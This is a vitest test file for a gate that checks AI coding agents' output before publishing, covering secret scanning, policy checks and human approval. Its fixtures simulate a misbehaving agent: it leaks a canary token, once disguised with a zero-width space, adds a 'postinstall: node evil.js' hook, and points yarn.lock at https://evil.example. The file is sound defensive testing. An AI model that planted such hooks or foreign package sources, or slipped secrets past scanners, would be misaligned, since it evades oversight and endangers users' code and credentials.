import { describe, expect, it } from "vitest";
import { approve, merge, reject, retry } from "../../../src/dispatch/gate.ts";
import { findSecrets } from "../../../src/dispatch/inspect.ts";
import { rebaseWaiting } from "../../../src/dispatch/rebase-waiting.ts";
import { publishWithheld, readWithheld } from "../../../src/dispatch/withheld.ts";
import { anItem } from "../../support/domain-data.ts";
import { GITHUB_LOOKALIKE as GITHUB } from "../../support/lookalikes.ts";
import { put, says, storyHouse, writing, type Play, type StoryHouse, type StoryOptions } from "../../support/story.ts";

const CANARY = "c4nary-of-the-deploy";
const human = { by: "a human", run: "by-hand" };
/** Task `bad` does as the test says, task `good` does honest work. */
const houseOf = (bad: Play, more: Partial<StoryOptions> = {}) =>
  storyHouse({
    items: [anItem("bad", { title: "Do it" }), anItem("good", { title: "Do it well" })],
    env: { DEPLOY_TOKEN: CANARY },
    coder: async (input, cwd, signal) => await (input.task.id === "bad" ? bad : writing)(input, cwd, signal),
    ...more,
  });

describe("work is not published", () => {
  it.each<readonly [string, RegExp, Play]>([
    [
      "that adds a known value",
      /^secret: secrets would be published: src\/a\.txt:2 \(the value of DEPLOY_TOKEN\)$/,
      async (_, cwd) => await put(cwd, "src/a.txt", `a\nkey ${CANARY}\n`),
    ],
    [
      "that adds what has the form of a secret",
      /^secret: .*config\.js:1 \(GITHUB_TOKEN\)$/,
      async (_, cwd) => await put(cwd, "config.js", `const t = "${GITHUB}";\n`),
    ],
    [
      "that names a file after one",
      /^secret: .*the name of a file \(the value of DEPLOY_TOKEN\)$/,
      async (_, cwd) => await put(cwd, `src/${CANARY}`, "x\n"),
    ],
    [
      "of which the coder speaks with a known value",
      /^secret: its words hold the value of DEPLOY_TOKEN$/,
      async (input, cwd, signal) => {
        await writing(input, cwd, signal);
        return says({ decision: "approve", findings: [], summary: `I used c4nary\u200b-of-the-deploy` });
      },
    ],
    [
      "of which the coder speaks with another secret",
      /^secret: .*the coder's words \(GITHUB_TOKEN\)$/,
      async (input, cwd, signal) => {
        await writing(input, cwd, signal);
        return says({ decision: "approve", findings: [], summary: `I used ${GITHUB}` });
      },
    ],
    [
      "with a new install script",
      /^policy: package\.json has a new install script: postinstall$/,
      async (_, cwd) => await put(cwd, "package.json", '{"scripts":{"postinstall":"node evil.js"}}\n'),
    ],
    [
      "with a lockfile from elsewhere",
      /^policy: yarn\.lock takes packages from https:\/\/evil\.example/,
      async (_, cwd) => await put(cwd, "yarn.lock", 'resolved "https://evil.example/a.tgz"\n'),
    ],
  ])("%s", async (_, reason, bad) => {
    await using house = await houseOf(bad);
    const [held, honest] = await house.run();
    expect(held).toMatchObject({ state: "needs-human", pr: null });
    expect(held?.reason).toMatch(reason);
    expect(honest).toMatchObject({ state: "ready-for-human", pr: 1 });
    expect(JSON.stringify(await house.facts())).not.toMatch(new RegExp(`${CANARY}|${GITHUB}`));
    const origin = await house.repo.gitIn(house.repo.origin ?? "", "for-each-ref", "--format=%(refname)");
    expect(origin).not.toContain("bad");
    expect(origin).toContain("refs/heads/dispatch/good");
    expect((await readWithheld(house.ports, "bad"))?.commit).toMatch(/^[0-9a-f]{40}$/);
  });

  it("when only the reviewer's words hold a secret; the branch is kept and nothing is pushed", async () => {
    const finding = {
      path: null,
      line: null,
      severity: "note",
      rule: null,
      message: `saw ${GITHUB}`,
      skills: [],
    } as const;
    await using house = await houseOf(writing, {
      reviewer: async ({ task }) =>
        says({ decision: "approve", findings: task.id === "bad" ? [finding] : [], summary: "fine" }),
    });
    const [held, honest] = await house.run();
    expect(held).toMatchObject({ state: "needs-human", pr: null });
    expect(held?.reason).toMatch(/^secret: .*the agents' words \(GITHUB_TOKEN\)/);
    expect(honest).toMatchObject({ state: "ready-for-human" });
    expect(await house.repo.gitIn(house.repo.origin ?? "", "for-each-ref")).not.toContain("dispatch/bad");
    expect(await house.repo.git("for-each-ref", "refs/dispatch/salvage")).toContain("bad");
  });

  it("by the word of a reviewer that holds a known value: nobody takes it", async () => {
    await using house = await houseOf(writing, {
      reviewer: async ({ task }) =>
        says({ decision: "approve", findings: [], summary: task.id === "bad" ? `${CANARY} is fine` : "fine" }),
    });
    const [held, honest] = await house.run();
    expect(held?.reason).toMatch(/^invalid_verdict: .*its words hold the value of DEPLOY_TOKEN/);
    expect(honest).toMatchObject({ state: "ready-for-human" });
    const all = await house.ports.forge.fetchPullRequests();
    expect(JSON.stringify([all, await house.facts()])).not.toContain(CANARY);
  });
});

describe("a secret that a human allows", () => {
  it("is published on their word, which is recorded", async () => {
    await using house = await houseOf(async (_, cwd) => await put(cwd, "src/a.txt", `${GITHUB}\n`));
    await house.run();
    await publishWithheld(house.ports, human, "bad", { allow: "policy", fence: "none", policy: "p" });
    expect(await readWithheld(house.ports, "bad")).toMatchObject({ code: "secret" });
    await publishWithheld(house.ports, human, "bad", { allow: "secret", fence: "none", policy: "p" });
    const approved = await approve(house.ports, human, "bad", { allow: "secret" });
    expect(approved.body).toContain("published on the word of a human");
    expect(approved.body).not.toContain(GITHUB);
    await merge(house.ports, human, "bad");
    expect((await house.facts()).filter(({ key }) => key.includes("/allowed/"))).toHaveLength(3);
  });

  it("is not published on a word about a path", async () => {
    await using house = await houseOf(async (_, cwd) => await put(cwd, ".github/ci.yml", `${GITHUB}\n`));
    const [held] = await house.run();
    expect(held?.reason).toBe("policy: protected paths were changed: .github/ci.yml");
    await publishWithheld(house.ports, human, "bad", { allow: "policy", fence: "none", policy: "p" });
    expect(await house.ports.forge.fetchPullRequests()).toHaveLength(1);
    expect(await readWithheld(house.ports, "bad")).toMatchObject({ code: "secret" });
    await publishWithheld(house.ports, human, "bad", { allow: "secret", fence: "none", policy: "p" });
    expect(await house.ports.forge.fetchPullRequests()).toHaveLength(2);
  });
});

describe("a branch that somebody moved here", () => {
  const move = async (house: StoryHouse, files: Readonly<Record<string, string>>): Promise<void> => {
    const branch = "dispatch/bad--do-it";
    await house.repo.git("switch", "-q", branch);
    await house.repo.commit("by somebody", files);
    await house.repo.git("switch", "-q", "-");
  };
  const idle = { isPaused: async () => false };

  it("is not pushed by the watcher with a secret on it", async () => {
    await using house = await houseOf(writing);
    await house.run();
    await move(house, { "src/theirs.txt": `${GITHUB}\n` });
    await house.repo.commitOnOrigin({ "src/base.txt": "moved\n" });
    const looked = await rebaseWaiting(house.ports, idle, human, house.settings);
    expect(looked.toSorted((a, b) => a.task.localeCompare(b.task))).toEqual([
      { task: "bad", outcome: "busy" },
      { task: "good", outcome: "rebased" },
    ]);
  });

  it("is judged as a whole when the task goes on from there", async () => {
    let starts = 0;
    await using house = await houseOf(async (_, cwd) => await put(cwd, "src/a.txt", `${(starts += 1)}\n`));
    await house.run();
    await move(house, { ".github/ci.yml": "on: push\n" });
    await reject(house.ports, human, "bad", "more", 5);
    const [left] = await house.run(["bad"]);
    expect(left?.reason).toMatch(/^conflict: somebody committed/);
    await retry(house.ports, human, "bad", "code");
    const [held] = await house.run(["bad"]);
    expect(held?.reason).toBe("policy: protected paths were changed: .github/ci.yml");
    expect(await house.repo.gitIn(house.repo.origin ?? "", "ls-tree", "-r", "dispatch/bad--do-it")).not.toContain(
      "ci.yml",
    );
  });
});

it("a change of which not all can be looked at is not published", async () => {
  await using house = await houseOf(writing);
  const { ports } = house;
  const cut = { ...ports, repository: { ...ports.repository, readDiff: async () => "+a\n[diff cut at 5 bytes]\n" } };
  expect(await findSecrets(cut, { from: "a", to: "b" }, [], [])).toContain("too large");
});
